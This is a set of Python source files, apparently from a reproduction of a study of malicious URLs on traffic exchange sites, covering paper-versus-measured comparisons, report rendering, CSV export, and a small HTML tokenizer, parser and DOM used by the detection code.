    "Easyhits4u": 14.3, "Hit2Hit": 16.3, "Traffic Monsoon": 18.4,
}

PAPER_TABLE3_SHARES_PCT: Dict[MalwareCategory, float] = {
    MalwareCategory.BLACKLISTED: 74.8,
    MalwareCategory.MALICIOUS_JAVASCRIPT: 18.8,
    MalwareCategory.SUSPICIOUS_REDIRECTION: 5.8,
    MalwareCategory.MALICIOUS_SHORTENED_URL: 0.5,
    MalwareCategory.MALICIOUS_FLASH: 0.1,
}

PAPER_FIGURE6_PCT: Dict[str, float] = {"com": 70.0, "net": 22.0, "de": 2.0, "org": 1.0}

PAPER_FIGURE7_PCT: Dict[str, float] = {
    "business": 58.6, "advertisement": 21.8,
    "entertainment": 8.7, "information technology": 8.6,
}

PAPER_VETTING_PCT: Dict[str, float] = {
    "VirusTotal": 100.0, "Quttera": 100.0, "URLQuery": 70.0,
    "BrightCloud": 60.0, "SiteCheck": 40.0, "SenderBase": 10.0,
    "Wepawet": 0.0, "AVGThreatLab": 0.0,
}


@dataclass
class MetricComparison:
    """One paper-vs-measured metric."""

    artifact: str   # "table1", "figure6", ...
    metric: str     # e.g. exchange or category name
    paper: float
    measured: float

    @property
    def delta(self) -> float:
        return self.measured - self.paper

    @property
    def within(self) -> float:
        """Absolute deviation (percentage points)."""
        return abs(self.delta)


@dataclass
class ComparisonReport:
    """All comparisons plus the shape checks the reproduction claims."""

    metrics: List[MetricComparison] = field(default_factory=list)
    shape_checks: Dict[str, bool] = field(default_factory=dict)

    def for_artifact(self, artifact: str) -> List[MetricComparison]:
        return [m for m in self.metrics if m.artifact == artifact]

    @property
    def shapes_hold(self) -> bool:
        return all(self.shape_checks.values())

    def worst(self, artifact: Optional[str] = None) -> Optional[MetricComparison]:
        pool = self.metrics if artifact is None else self.for_artifact(artifact)
        return max(pool, key=lambda m: m.within) if pool else None

    def render(self) -> str:
        lines = ["%-10s %-26s %8s %9s %7s" % ("artifact", "metric", "paper", "measured", "delta")]
        for metric in self.metrics:
            lines.append("%-10s %-26s %7.1f%% %8.1f%% %+6.1f" % (
                metric.artifact, metric.metric, metric.paper, metric.measured, metric.delta))
        lines.append("")
        for name, ok in sorted(self.shape_checks.items()):
            lines.append("shape %-40s %s" % (name, "OK" if ok else "VIOLATED"))
        return "\n".join(lines)


def compare_to_paper(results: StudyResults) -> ComparisonReport:
    """Compare a finished study against the paper's published values."""
    report = ComparisonReport()

    report.metrics.append(MetricComparison(
        "overall", "malicious fraction",
        PAPER_OVERALL_MALICIOUS_PCT, 100 * results.overall_malicious_fraction,
    ))

    rates = {r.exchange: 100 * r.malicious_fraction for r in results.table1}
    for exchange, paper_value in PAPER_TABLE1_MALICIOUS_PCT.items():
        if exchange in rates:
            report.metrics.append(MetricComparison("table1", exchange, paper_value, rates[exchange]))

    domain_rates = {r.exchange: 100 * r.malware_fraction for r in results.table2}
    for exchange, paper_value in PAPER_TABLE2_MALWARE_DOMAIN_PCT.items():
        if exchange in domain_rates:
            report.metrics.append(MetricComparison("table2", exchange, paper_value,
                                                   domain_rates[exchange]))

    if results.table3 is not None:
        for category, paper_value in PAPER_TABLE3_SHARES_PCT.items():
            report.metrics.append(MetricComparison(
                "table3", category.value, paper_value, results.table3.percentage(category)))

    if results.figure6 is not None:
        for tld, paper_value in PAPER_FIGURE6_PCT.items():
            report.metrics.append(MetricComparison(
                "figure6", tld, paper_value, results.figure6.percentage(tld)))

    if results.figure7 is not None:
        for category, paper_value in PAPER_FIGURE7_PCT.items():
            report.metrics.append(MetricComparison(
                "figure7", category, paper_value, results.figure7.percentage(category)))

    # --- the shape claims ---
    checks = report.shape_checks
    checks["headline >26% malicious"] = results.overall_malicious_fraction > 0.26
    if rates:
        checks["SendSurf worst exchange"] = rates.get("SendSurf", 0) == max(rates.values())
        auto = [rates.get(n, 0) for n in ("10KHits", "ManyHits", "Smiley Traffic")]
        checks["10KHits > ManyHits > Smiley"] = auto[0] > auto[1] > auto[2]
    if domain_rates:
        auto_domains = {n: domain_rates.get(n, 1) for n in
                        ("10KHits", "ManyHits", "Smiley Traffic", "SendSurf", "Otohits")}
        checks["SendSurf lowest domain rate (auto)"] = (
            auto_domains["SendSurf"] == min(auto_domains.values())
        )
    if results.table3 is not None:
        shares = dict(results.table3.table_rows())
        checks["table3 ordering"] = (
            shares[MalwareCategory.BLACKLISTED]
            > shares[MalwareCategory.MALICIOUS_JAVASCRIPT]
            > shares[MalwareCategory.SUSPICIOUS_REDIRECTION]
        )
    if results.figure6 is not None:
        checks["com > net (TLDs)"] = (
            results.figure6.percentage("com") > results.figure6.percentage("net")
        )
    if results.figure7 is not None:
        checks["business leads categories"] = results.figure7.percentage("business") == max(
            share for _c, share in results.figure7.ranked()
        )
    return report
