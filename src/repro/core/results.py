"""Study results: one dataclass per table/figure, plus the container."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..analysis import (
    CategorizationResult,
    ContentCategoryDistribution,
    ExchangeDomainStats,
    ExchangeUrlStats,
    FalsePositiveFinding,
    MaliciousTimeseries,
    RedirectDistribution,
    ShortUrlRow,
    TldDistribution,
)

__all__ = ["Figure2Data", "StudyResults"]


@dataclass
class Figure2Data:
    """Benign/malware split per exchange (the Figure 2 stacked bars)."""

    auto_surf: List[Tuple[str, int, int]] = field(default_factory=list)
    manual_surf: List[Tuple[str, int, int]] = field(default_factory=list)

    @staticmethod
    def from_stats(rows: List[ExchangeUrlStats]) -> "Figure2Data":
        data = Figure2Data()
        for row in rows:
            entry = (row.exchange, row.benign_urls, row.malicious_urls)
            if row.kind == "auto-surf":
                data.auto_surf.append(entry)
            else:
                data.manual_surf.append(entry)
        return data


@dataclass
class StudyResults:
    """Everything the study produced, keyed by the paper's artifacts."""

    table1: List[ExchangeUrlStats] = field(default_factory=list)
    table2: List[ExchangeDomainStats] = field(default_factory=list)
    table3: Optional[CategorizationResult] = None
    table4: List[ShortUrlRow] = field(default_factory=list)
    figure2: Optional[Figure2Data] = None
    figure3: Dict[str, MaliciousTimeseries] = field(default_factory=dict)
    figure4_chain: Optional[List[str]] = None
    figure5: Optional[RedirectDistribution] = None
    figure6: Optional[TldDistribution] = None
    figure7: Optional[ContentCategoryDistribution] = None
    false_positives: List[FalsePositiveFinding] = field(default_factory=list)
    overall_malicious_fraction: float = 0.0

    @property
    def headline_holds(self) -> bool:
        """The paper's headline: >26% of regular URLs are malicious."""
        return self.overall_malicious_fraction > 0.26
