"""Text renderers: print the study's tables and figures like the paper's.

Every renderer takes the corresponding results object and returns a
plain-text block (monospace tables / ASCII bars) so benchmarks and
examples can show paper-style output.
"""

from __future__ import annotations

from typing import Dict, List, Sequence

from ..analysis import (
    CategorizationResult,
    ContentCategoryDistribution,
    ExchangeDomainStats,
    ExchangeUrlStats,
    MaliciousTimeseries,
    RedirectDistribution,
    ShortUrlRow,
    TldDistribution,
)
from .results import Figure2Data, StudyResults

__all__ = [
    "render_table1",
    "render_table2",
    "render_table3",
    "render_table4",
    "render_figure2",
    "render_figure3_summary",
    "render_figure5",
    "render_figure6",
    "render_figure7",
    "render_redirect_chain",
    "render_full_report",
]


def _table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    widths = [len(h) for h in headers]
    for row in rows:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))
    fmt = "  ".join("%%-%ds" % w for w in widths)
    lines = [fmt % tuple(headers), fmt % tuple("-" * w for w in widths)]
    lines.extend(fmt % tuple(row) for row in rows)
    return "\n".join(lines)


def render_table1(rows: List[ExchangeUrlStats]) -> str:
    """Table I: statistics of data from traffic exchanges."""
    body = [
        (
            r.exchange, r.kind, "%d" % r.urls_crawled, "%d" % r.self_referrals,
            "%d" % r.popular_referrals, "%d" % r.regular_urls,
            "%d" % r.malicious_urls, "%.1f%%" % (100 * r.malicious_fraction),
        )
        for r in rows
    ]
    return _table(
        ("Exchange", "Type", "#URLs", "#Self", "#Popular", "#Regular", "#Malicious", "%Malicious"),
        body,
    )


def render_table2(rows: List[ExchangeDomainStats]) -> str:
    """Table II: statistics of domains on traffic exchanges."""
    body = [
        (r.exchange, "%d" % r.domains, "%d" % r.malware_domains,
         "%.1f%%" % (100 * r.malware_fraction))
        for r in rows
    ]
    return _table(("Exchange", "#Domains", "#Malware", "%Malware"), body)


def render_table3(result: CategorizationResult) -> str:
    """Table III: malware categorization."""
    body = [(str(category.value), "%.1f%%" % share) for category, share in result.table_rows()]
    body.append(("(miscellaneous URLs)", "%d" % result.count(
        __import__("repro.malware.taxonomy", fromlist=["MalwareCategory"]).MalwareCategory.MISCELLANEOUS
    )))
    return _table(("Category", "Percentage"), body)


def render_table4(rows: List[ShortUrlRow], limit: int = 24) -> str:
    """Table IV: statistics of malicious shortened URLs."""
    body = [
        (r.short_url, "%d" % r.short_hits, "%d" % r.long_hits, r.top_country, r.top_referrer)
        for r in rows[:limit]
    ]
    return _table(
        ("Shortened URL", "Short Hits", "Long URL Hits", "Top Country", "Top Referrer"), body
    )


def _bars(entries: Sequence, width: int = 40) -> str:
    lines = []
    peak = max((benign + malicious for _n, benign, malicious in entries), default=1)
    peak = max(peak, 1)
    for name, benign, malicious in entries:
        total = benign + malicious
        mal_cells = int(width * malicious / peak)
        ben_cells = int(width * benign / peak)
        pct = 100.0 * malicious / total if total else 0.0
        lines.append("%-16s %s%s %5.1f%% malicious" % (name, "#" * mal_cells, "." * ben_cells, pct))
    return "\n".join(lines)


def render_figure2(figure: Figure2Data) -> str:
    """Figure 2: malware ratio in auto-surf and manual-surf exchanges."""
    return (
        "(a) auto-surf exchanges ('#'=malware, '.'=benign)\n%s\n\n"
        "(b) manual-surf exchanges\n%s"
        % (_bars(figure.auto_surf), _bars(figure.manual_surf))
    )


def render_figure3_summary(series: Dict[str, MaliciousTimeseries]) -> str:
    """Figure 3 condensed: final cumulative counts + burstiness."""
    from ..analysis import burstiness_score

    rows = [
        (name, "%d" % ts.crawled, "%d" % ts.final_malicious, "%.2f" % burstiness_score(ts))
        for name, ts in sorted(series.items())
    ]
    return _table(("Exchange", "Crawled", "Cumulative Malicious", "Burstiness"), rows)


def render_figure5(distribution: RedirectDistribution, width: int = 40) -> str:
    """Figure 5: distribution of URL redirection count."""
    bars = distribution.bars()
    peak = max((count for _h, count in bars), default=1)
    lines = ["redirections  #URLs"]
    for hops, count in bars:
        cells = int(width * count / peak) if peak else 0
        lines.append("%11d  %6d %s" % (hops, count, "#" * cells))
    return "\n".join(lines)


def render_figure6(distribution: TldDistribution) -> str:
    """Figure 6: malicious URLs by top-level domain."""
    rows = [(tld, "%.1f%%" % share) for tld, share in distribution.top(4)]
    rows.append(("others", "%.1f%%" % distribution.others_percentage(4)))
    return _table(("TLD", "Share"), rows)


def render_figure7(distribution: ContentCategoryDistribution) -> str:
    """Figure 7: malicious content across categories."""
    rows = [(category, "%.1f%%" % share) for category, share in distribution.ranked()]
    return _table(("Content Category", "Share"), rows)


def render_redirect_chain(chain: Sequence[str]) -> str:
    """Figure 4: one suspicious redirection chain."""
    lines = []
    for index, url in enumerate(chain):
        prefix = "    " * index
        lines.append("%s%s" % (prefix, url))
        if index < len(chain) - 1:
            lines.append("%s  |-> 302/meta" % prefix)
    return "\n".join(lines)


def render_full_report(results: StudyResults) -> str:
    """All artifacts in one report."""
    sections = [
        "== Table I: URL statistics ==", render_table1(results.table1),
        "\n== Table II: domain statistics ==", render_table2(results.table2),
    ]
    if results.table3 is not None:
        sections += ["\n== Table III: malware categorization ==", render_table3(results.table3)]
    sections += ["\n== Table IV: malicious shortened URLs ==", render_table4(results.table4)]
    if results.figure2 is not None:
        sections += ["\n== Figure 2: malware ratio ==", render_figure2(results.figure2)]
    sections += ["\n== Figure 3: time series summary ==",
                 render_figure3_summary(results.figure3)]
    if results.figure4_chain:
        sections += ["\n== Figure 4: example redirect chain ==",
                     render_redirect_chain(results.figure4_chain)]
    if results.figure5 is not None:
        sections += ["\n== Figure 5: redirection counts ==", render_figure5(results.figure5)]
    if results.figure6 is not None:
        sections += ["\n== Figure 6: TLD distribution ==", render_figure6(results.figure6)]
    if results.figure7 is not None:
        sections += ["\n== Figure 7: content categories ==", render_figure7(results.figure7)]
    sections.append(
        "\nOverall: %.1f%% of regular URLs malicious (paper: >26%%); headline %s"
        % (100 * results.overall_malicious_fraction,
           "HOLDS" if results.headline_holds else "DOES NOT HOLD")
    )
    sections.append("False positives identified: %d" % len(results.false_positives))
    return "\n".join(sections)
