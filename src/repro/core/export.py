"""CSV export of every table/figure for external plotting.

Writes one CSV per artifact (table1.csv ... figure7.csv) so the results
can be re-plotted with matplotlib/R/gnuplot outside this library.
"""

from __future__ import annotations

import csv
import os
from typing import List

from .results import StudyResults

__all__ = ["export_csvs"]


def export_csvs(results: StudyResults, directory: str) -> List[str]:
    """Write all artifacts as CSV files into ``directory``.

    Returns the list of file paths written.
    """
    os.makedirs(directory, exist_ok=True)
    written: List[str] = []

    def write(name: str, header: List[str], rows: List[List]) -> None:
        path = os.path.join(directory, name)
        with open(path, "w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(header)
            writer.writerows(rows)
        written.append(path)

    write(
        "table1.csv",
        ["exchange", "kind", "urls_crawled", "self_referrals", "popular_referrals",
         "regular_urls", "malicious_urls", "malicious_fraction"],
        [
            [r.exchange, r.kind, r.urls_crawled, r.self_referrals, r.popular_referrals,
             r.regular_urls, r.malicious_urls, "%.4f" % r.malicious_fraction]
            for r in results.table1
        ],
    )
    write(
        "table2.csv",
        ["exchange", "domains", "malware_domains", "malware_fraction"],
        [
            [r.exchange, r.domains, r.malware_domains, "%.4f" % r.malware_fraction]
            for r in results.table2
        ],
    )
    if results.table3 is not None:
        write(
            "table3.csv",
            ["category", "count", "share_of_categorized_percent"],
            [
                [category.value, results.table3.count(category), "%.2f" % share]
                for category, share in results.table3.table_rows()
            ],
        )
    write(
        "table4.csv",
        ["short_url", "short_hits", "long_url", "long_hits", "top_country", "top_referrer"],
        [
            [r.short_url, r.short_hits, r.long_url, r.long_hits, r.top_country, r.top_referrer]
            for r in results.table4
        ],
    )
    figure3_rows: List[List] = []
    for name, series in sorted(results.figure3.items()):
        step = max(1, len(series.points) // 200)  # downsample long curves
        for crawled, cumulative in series.points[::step]:
            figure3_rows.append([name, crawled, cumulative])
    write("figure3.csv", ["exchange", "crawled", "cumulative_malicious"], figure3_rows)

    if results.figure5 is not None:
        write("figure5.csv", ["redirections", "urls"],
              [[hops, count] for hops, count in results.figure5.bars()])
    if results.figure6 is not None:
        write("figure6.csv", ["tld", "count"],
              sorted(results.figure6.counts.items(), key=lambda kv: -kv[1]))
    if results.figure7 is not None:
        write("figure7.csv", ["category", "count"],
              sorted(results.figure7.counts.items(), key=lambda kv: -kv[1]))
    return written
