"""From-scratch HTML parsing: tokenizer, DOM, parser, selectors, serializer.

Public API::

    from repro.htmlparse import parse, parse_fragment, select, serialize

    doc = parse("<html><body><iframe width=1 height=1></iframe></body>")
    frames = select(doc, "iframe[width=1]")
"""

from .dom import Comment, Document, Element, Node, Text
from .parser import VOID_ELEMENTS, parse, parse_fragment
from .query import matches, select, select_one
from .serializer import serialize, serialize_children
from .tokenizer import Token, TokenKind, tokenize

__all__ = [
    "Comment",
    "Document",
    "Element",
    "Node",
    "Text",
    "Token",
    "TokenKind",
    "VOID_ELEMENTS",
    "matches",
    "parse",
    "parse_fragment",
    "select",
    "select_one",
    "serialize",
    "serialize_children",
    "tokenize",
]
