"""HTML tokenizer.

A small, robust HTML tokenizer sufficient for the markup the study
analyzes: start/end tags with quoted or bare attributes, comments,
doctype, text, and raw-text elements (``script``/``style``/``textarea``)
whose content must not be interpreted as markup — the malware samples in
the paper live almost entirely inside ``<script>`` bodies and ``<iframe>``
attributes, so getting those right matters more than full WHATWG
conformance.  Malformed input never raises; it degrades to text tokens,
mirroring browser behaviour that malware relies on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

__all__ = ["Token", "TokenKind", "tokenize", "decode_entities", "RAW_TEXT_ELEMENTS"]

RAW_TEXT_ELEMENTS = {"script", "style", "textarea", "title"}

_SPACE = " \t\n\r\f"

_NAMED_ENTITIES = {
    "amp": "&", "lt": "<", "gt": ">", "quot": '"', "apos": "'",
    "nbsp": " ", "copy": "©", "mdash": "—", "ndash": "–",
}


def decode_entities(text: str) -> str:
    """Decode named and numeric character references."""
    if "&" not in text:
        return text
    out: List[str] = []
    i = 0
    n = len(text)
    while i < n:
        ch = text[i]
        if ch != "&":
            out.append(ch)
            i += 1
            continue
        semi = text.find(";", i + 1, i + 12)
        if semi == -1:
            out.append(ch)
            i += 1
            continue
        body = text[i + 1 : semi]
        if body.startswith("#"):
            digits = body[1:]
            try:
                code = int(digits[1:], 16) if digits[:1] in "xX" else int(digits)
                out.append(chr(code))
                i = semi + 1
                continue
            except (ValueError, OverflowError):
                pass
        elif body in _NAMED_ENTITIES:
            out.append(_NAMED_ENTITIES[body])
            i = semi + 1
            continue
        out.append(ch)
        i += 1
    return "".join(out)


class TokenKind:
    """Token kind constants (plain strings keep tokens easy to debug)."""

    TEXT = "text"
    START_TAG = "start_tag"
    END_TAG = "end_tag"
    COMMENT = "comment"
    DOCTYPE = "doctype"


@dataclass
class Token:
    """One lexical unit of an HTML document."""

    kind: str
    data: str = ""
    attrs: Dict[str, str] = field(default_factory=dict)
    self_closing: bool = False
    position: int = 0

    def attr(self, name: str, default: str = "") -> str:
        return self.attrs.get(name.lower(), default)


def tokenize(html: str) -> Iterator[Token]:
    """Yield :class:`Token` objects for ``html``.

    The tokenizer is forgiving: an unterminated tag or comment is emitted
    as text, and attributes with missing quotes are parsed bare.
    """
    pos = 0
    length = len(html)
    pending_raw: Optional[str] = None  # element whose raw text we're inside

    while pos < length:
        if pending_raw is not None:
            end_pos, text, end_tag = _scan_raw_text(html, pos, pending_raw)
            if text:
                yield Token(TokenKind.TEXT, text, position=pos)
            if end_tag is not None:
                yield end_tag
            pos = end_pos
            pending_raw = None
            continue

        lt = html.find("<", pos)
        if lt == -1:
            yield Token(TokenKind.TEXT, decode_entities(html[pos:]), position=pos)
            break
        if lt > pos:
            yield Token(TokenKind.TEXT, decode_entities(html[pos:lt]), position=pos)
            pos = lt

        token, new_pos = _scan_markup(html, pos)
        if token is None:
            # stray '<' — emit as text and continue after it
            yield Token(TokenKind.TEXT, "<", position=pos)
            pos += 1
            continue
        yield token
        pos = new_pos
        if token.kind == TokenKind.START_TAG and not token.self_closing:
            if token.data in RAW_TEXT_ELEMENTS:
                pending_raw = token.data


def _scan_raw_text(html: str, pos: int, element: str) -> Tuple[int, str, Optional[Token]]:
    """Scan raw text until ``</element``; returns (new_pos, text, end_token)."""
    needle = "</" + element
    lower = html.lower()
    search = pos
    while True:
        idx = lower.find(needle, search)
        if idx == -1:
            return len(html), html[pos:], None
        after = idx + len(needle)
        # must be followed by whitespace, '>' or '/' to be a real end tag
        if after >= len(html) or html[after] in _SPACE + ">/":
            gt = html.find(">", after)
            end = len(html) if gt == -1 else gt + 1
            return end, html[pos:idx], Token(TokenKind.END_TAG, element, position=idx)
        search = after


def _scan_markup(html: str, pos: int) -> Tuple[Optional[Token], int]:
    """Scan a construct starting with ``<`` at ``pos``."""
    length = len(html)
    if pos + 1 >= length:
        return None, pos

    nxt = html[pos + 1]
    if nxt == "!":
        if html.startswith("<!--", pos):
            end = html.find("-->", pos + 4)
            if end == -1:
                return Token(TokenKind.COMMENT, html[pos + 4 :], position=pos), length
            return Token(TokenKind.COMMENT, html[pos + 4 : end], position=pos), end + 3
        gt = html.find(">", pos)
        if gt == -1:
            return Token(TokenKind.TEXT, html[pos:], position=pos), length
        return Token(TokenKind.DOCTYPE, html[pos + 2 : gt].strip(), position=pos), gt + 1

    if nxt == "/":
        gt = html.find(">", pos)
        if gt == -1:
            return None, pos
        name = html[pos + 2 : gt].strip().lower()
        return Token(TokenKind.END_TAG, name, position=pos), gt + 1

    if not nxt.isalpha():
        return None, pos

    return _scan_start_tag(html, pos)


def _scan_start_tag(html: str, pos: int) -> Tuple[Optional[Token], int]:
    length = len(html)
    i = pos + 1
    start = i
    while i < length and (html[i].isalnum() or html[i] in "-_:"):
        i += 1
    name = html[start:i].lower()
    attrs: Dict[str, str] = {}
    self_closing = False

    while i < length:
        while i < length and html[i] in _SPACE:
            i += 1
        if i >= length:
            return None, pos
        ch = html[i]
        if ch == ">":
            i += 1
            break
        if ch == "/":
            if i + 1 < length and html[i + 1] == ">":
                self_closing = True
                i += 2
                break
            i += 1
            continue
        attr_name, attr_value, i = _scan_attribute(html, i)
        if attr_name and attr_name not in attrs:
            attrs[attr_name] = decode_entities(attr_value)
    else:
        return None, pos

    return Token(TokenKind.START_TAG, name, attrs=attrs, self_closing=self_closing, position=pos), i


def _scan_attribute(html: str, i: int) -> Tuple[str, str, int]:
    length = len(html)
    start = i
    while i < length and html[i] not in _SPACE + "=/>":
        i += 1
    name = html[start:i].lower()
    while i < length and html[i] in _SPACE:
        i += 1
    if i >= length or html[i] != "=":
        return name, "", i
    i += 1
    while i < length and html[i] in _SPACE:
        i += 1
    if i >= length:
        return name, "", i
    quote = html[i]
    if quote in "\"'":
        end = html.find(quote, i + 1)
        if end == -1:
            return name, html[i + 1 :], length
        return name, html[i + 1 : end], end + 1
    start = i
    while i < length and html[i] not in _SPACE + ">":
        i += 1
    return name, html[start:i], i
