"""HTML tree construction on top of the tokenizer.

Implements a pragmatic subset of the HTML5 tree-construction rules:
void elements, implicit ``html``/``head``/``body`` synthesis, optional
end tags for common containers, and misnested end-tag recovery.  The
goal is that markup produced by our malware generators — and the messy
real-world idioms they imitate — parses into the tree a browser would
build, so that the detection heuristics see what the victim's browser
would execute.
"""

from __future__ import annotations

from typing import Any, List, Optional

from .dom import Comment, Document, Element, Text
from .tokenizer import TokenKind, tokenize

__all__ = ["parse", "parse_fragment", "VOID_ELEMENTS"]

VOID_ELEMENTS = {
    "area", "base", "br", "col", "embed", "hr", "img", "input",
    "link", "meta", "param", "source", "track", "wbr",
}

#: Elements whose open instance is implicitly closed by a new sibling of
#: the same tag (enough for generated markup; we are not a full browser).
_AUTOCLOSE_SIBLINGS = {"p", "li", "option", "tr", "td", "th"}

_HEAD_ONLY = {"title", "base", "link", "meta", "style"}


def parse(html: str, observer: Optional[Any] = None) -> Document:
    """Parse a complete HTML document, synthesizing html/head/body.

    An observer charges the token count and DOM nodes built to the work
    profiler in two batched amounts (``htmlparse.tokens`` /
    ``htmlparse.nodes``) — local integer counters keep the hot loop
    unchanged when profiling is off.
    """
    document = Document()
    html_el = Element("html")
    head_el = Element("head")
    body_el = Element("body")

    stack: List[Element] = []
    in_head = True
    tokens = 0
    nodes = 4  # document + the three synthesized containers

    def current() -> Element:
        if stack:
            return stack[-1]
        return head_el if in_head else body_el

    for token in tokenize(html):
        tokens += 1
        if token.kind == TokenKind.DOCTYPE:
            continue
        if token.kind == TokenKind.COMMENT:
            current().append(Comment(token.data))
            nodes += 1
            continue
        if token.kind == TokenKind.TEXT:
            if not stack and in_head and token.data.strip():
                in_head = False
            current().append(Text(token.data))
            nodes += 1
            continue
        if token.kind == TokenKind.START_TAG:
            name = token.data
            if name == "html":
                html_el.attrs.update(token.attrs)
                continue
            if name == "head":
                continue
            if name == "body":
                body_el.attrs.update(token.attrs)
                in_head = False
                continue
            if in_head and not stack and name not in _HEAD_ONLY and name != "script":
                in_head = False
            element = Element(name, token.attrs)
            nodes += 1
            # implicit close of same-tag sibling (e.g. <li><li>)
            if name in _AUTOCLOSE_SIBLINGS and stack and stack[-1].tag == name:
                stack.pop()
            current().append(element)
            if name not in VOID_ELEMENTS and not token.self_closing:
                stack.append(element)
            continue
        if token.kind == TokenKind.END_TAG:
            name = token.data
            if name in ("html", "head"):
                in_head = False
                continue
            if name == "body":
                stack.clear()
                continue
            for index in range(len(stack) - 1, -1, -1):
                if stack[index].tag == name:
                    del stack[index:]
                    break
            # unmatched end tag: ignored, like browsers do

    document.append(html_el)
    html_el.append(head_el)
    html_el.append(body_el)
    if observer is not None:
        observer.work("htmlparse.tokens", tokens)
        observer.work("htmlparse.nodes", nodes)
    return document


def parse_fragment(html: str, container_tag: str = "div",
                   observer: Optional[Any] = None) -> Element:
    """Parse an HTML fragment into a container element.

    Used by the JS host environment for ``document.write`` and
    ``innerHTML`` assignment, where markup is parsed in the context of an
    existing element rather than a full document.
    """
    container = Element(container_tag)
    stack: List[Element] = []
    tokens = 0
    nodes = 1  # the container

    def current() -> Element:
        return stack[-1] if stack else container

    for token in tokenize(html):
        tokens += 1
        if token.kind in (TokenKind.DOCTYPE,):
            continue
        if token.kind == TokenKind.COMMENT:
            current().append(Comment(token.data))
            nodes += 1
        elif token.kind == TokenKind.TEXT:
            current().append(Text(token.data))
            nodes += 1
        elif token.kind == TokenKind.START_TAG:
            if token.data in ("html", "head", "body"):
                continue
            element = Element(token.data, token.attrs)
            nodes += 1
            if token.data in _AUTOCLOSE_SIBLINGS and stack and stack[-1].tag == token.data:
                stack.pop()
            current().append(element)
            if token.data not in VOID_ELEMENTS and not token.self_closing:
                stack.append(element)
        elif token.kind == TokenKind.END_TAG:
            for index in range(len(stack) - 1, -1, -1):
                if stack[index].tag == token.data:
                    del stack[index:]
                    break
    if observer is not None:
        observer.work("htmlparse.tokens", tokens)
        observer.work("htmlparse.nodes", nodes)
    return container
