"""A minimal DOM: Document, Element, Text, Comment nodes.

Supports the tree operations the detection heuristics and the JS host
environment need: traversal, child manipulation, attribute access,
text extraction, and computed style shortcuts for the visibility
attributes that hidden-iframe malware manipulates.
"""

from __future__ import annotations

from typing import Dict, Iterator, List, Optional

__all__ = ["Node", "Element", "Text", "Comment", "Document"]


class Node:
    """Base class for DOM nodes."""

    def __init__(self) -> None:
        self.parent: Optional["Element"] = None

    # -- tree navigation ------------------------------------------------
    @property
    def ancestors(self) -> Iterator["Element"]:
        node = self.parent
        while node is not None:
            yield node
            node = node.parent

    def detach(self) -> None:
        """Remove this node from its parent, if any."""
        if self.parent is not None:
            self.parent.children.remove(self)
            self.parent = None

    def text_content(self) -> str:
        """Concatenated text of this subtree."""
        return ""


class Text(Node):
    """A text node."""

    def __init__(self, data: str) -> None:
        super().__init__()
        self.data = data

    def text_content(self) -> str:
        return self.data

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        snippet = self.data[:30].replace("\n", "\\n")
        return "Text(%r)" % snippet


class Comment(Node):
    """A comment node."""

    def __init__(self, data: str) -> None:
        super().__init__()
        self.data = data

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "Comment(%r)" % self.data[:30]


class Element(Node):
    """An element node with attributes and children."""

    def __init__(self, tag: str, attrs: Optional[Dict[str, str]] = None) -> None:
        super().__init__()
        self.tag = tag.lower()
        self.attrs: Dict[str, str] = dict(attrs or {})
        self.children: List[Node] = []

    # -- attributes -----------------------------------------------------
    def get(self, name: str, default: str = "") -> str:
        return self.attrs.get(name.lower(), default)

    def set(self, name: str, value: str) -> None:
        self.attrs[name.lower()] = value

    def has_attr(self, name: str) -> bool:
        return name.lower() in self.attrs

    @property
    def id(self) -> str:
        return self.get("id")

    @property
    def classes(self) -> List[str]:
        return self.get("class").split()

    # -- style shortcuts (hidden-iframe heuristics read these) -----------
    @property
    def style(self) -> Dict[str, str]:
        """Parsed inline ``style`` attribute as a property dict."""
        result: Dict[str, str] = {}
        for declaration in self.get("style").split(";"):
            if ":" not in declaration:
                continue
            prop, _, value = declaration.partition(":")
            result[prop.strip().lower()] = value.strip()
        return result

    def dimension(self, name: str) -> Optional[float]:
        """Return the width/height in CSS pixels, from attribute or style.

        Returns ``None`` when not specified or not parseable (e.g. "50%").
        """
        raw = self.style.get(name) or self.get(name)
        if not raw:
            return None
        raw = raw.strip().lower().removesuffix("px").strip()
        try:
            return float(raw)
        except ValueError:
            return None

    # -- tree modification ------------------------------------------------
    def append(self, node: Node) -> Node:
        node.detach()
        node.parent = self
        self.children.append(node)
        return node

    def insert(self, index: int, node: Node) -> Node:
        node.detach()
        node.parent = self
        self.children.insert(index, node)
        return node

    def append_text(self, data: str) -> Text:
        text = Text(data)
        return self.append(text)  # type: ignore[return-value]

    # -- traversal --------------------------------------------------------
    def iter(self) -> Iterator["Element"]:
        """Depth-first iteration over this element and all descendants."""
        yield self
        for child in list(self.children):
            if isinstance(child, Element):
                yield from child.iter()

    def iter_nodes(self) -> Iterator[Node]:
        """Depth-first iteration over all nodes including text/comments."""
        yield self
        for child in list(self.children):
            if isinstance(child, Element):
                yield from child.iter_nodes()
            else:
                yield child

    def find_all(self, tag: str) -> List["Element"]:
        tag = tag.lower()
        return [el for el in self.iter() if el.tag == tag]

    def find(self, tag: str) -> Optional["Element"]:
        matches = self.find_all(tag)
        return matches[0] if matches else None

    def text_content(self) -> str:
        return "".join(child.text_content() for child in self.children)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return "Element(%s, %d children)" % (self.tag, len(self.children))


class Document(Element):
    """The document root.

    Behaves as an element with tag ``#document``; provides the handful of
    ``document.*`` accessors the JS host environment exposes.
    """

    def __init__(self) -> None:
        super().__init__("#document")

    @property
    def html(self) -> Optional[Element]:
        return self.find("html")

    @property
    def head(self) -> Optional[Element]:
        return self.find("head")

    @property
    def body(self) -> Optional[Element]:
        return self.find("body")

    def get_element_by_id(self, element_id: str) -> Optional[Element]:
        for el in self.iter():
            if el.id == element_id:
                return el
        return None

    def get_elements_by_tag_name(self, tag: str) -> List[Element]:
        return self.find_all(tag)

    def create_element(self, tag: str) -> Element:
        return Element(tag)
