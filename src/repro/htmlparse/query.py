"""Simple selector queries over the DOM.

Supports the selector forms the detection code uses:

* ``tag`` — by tag name
* ``#id`` — by id
* ``.class`` — by class
